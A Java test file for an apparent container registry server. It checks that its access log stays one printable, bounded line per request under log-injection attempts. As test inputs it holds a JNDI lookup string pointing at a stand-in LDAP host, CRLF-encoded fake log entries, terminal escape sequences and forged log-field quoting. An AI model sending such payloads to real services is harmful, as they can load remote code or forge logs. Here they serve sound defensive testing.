package io.stowage.registry.server;

import static org.assertj.core.api.Assertions.assertThat;

import io.stowage.registry.server.http.WireClient;
import io.stowage.registry.server.http.WireClient.WireResponse;
import io.stowage.registry.server.json.Json;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Whatever clients send to a whole registry, its access log is a log. */
final class LogInjectionTest {
  private static final String LOOKUP = "${jndi:ldap://x.test/a}";

  /** What clients may write into a field, whose controls are refused. */
  private static final List<String> AGENTS =
      List.of(
          LOOKUP,
          "a\" 200 0 \"\" \"b",
          "a\\x0ab\\",
          "\u0085\u009b2J\u00ff",
          "{\"status\":200}",
          "x".repeat(30_000));

  private static final List<String> TARGETS =
      List.of(
          "/v2/" + LOOKUP + "/tags/list",
          "/v2/a/manifests/" + LOOKUP,
          "/v2/a%0d%0a127.0.0.1%20-%20-/tags/list",
          "/v2/%1b%5b2J%00/tags/list?n=%0a&last=" + LOOKUP,
          "/v2/" + "y".repeat(8_000));

  @TempDir private Path folder;

  @ParameterizedTest
  @ValueSource(strings = {"combined", "json"})
  @DisplayName("SL-3, SL-4: a request is one line of the access log, bounded, plain and literal")
  void requests_thatInject_areOneLineEach(String format) throws Exception {
    RunningRegistry registry =
        RunningRegistry.start(folder, Map.of("REGISTRY_STOWAGE_LOG_ACCESS_FORMAT", format));
    try (registry) {
      for (String agent : AGENTS) {
        for (String target : TARGETS) {
          assertThat(answer(registry, target, agent).status()).isBetween(400, 499);
        }
      }
      registry.stop(Duration.ofSeconds(5));
    }

    List<String> lines = registry.accessLog().lines().toList();
    assertThat(lines)
        .hasSize(AGENTS.size() * TARGETS.size())
        .allSatisfy(line -> assertThat(line).matches("[ -~]+").hasSizeLessThan(8 * 1024))
        .anySatisfy(line -> assertThat(line).contains("/v2/a/manifests/" + LOOKUP));
    if (format.equals("json")) {
      for (String line : lines) {
        Map<?, ?> fields = Json.read(line.getBytes(StandardCharsets.UTF_8), Map.class);
        assertThat(fields.keySet().containsAll(List.of("target", "status", "user_agent"))).isTrue();
      }
    }
  }

  private static WireResponse answer(RunningRegistry registry, String target, String agent)
      throws Exception {
    try (WireClient client = WireClient.connect(registry.address())) {
      client.sendRaw(
          "GET " + target + " HTTP/1.1\r\nHost: test\r\nUser-Agent: " + agent + "\r\n\r\n");
      return client.readResponse();
    }
  }
}
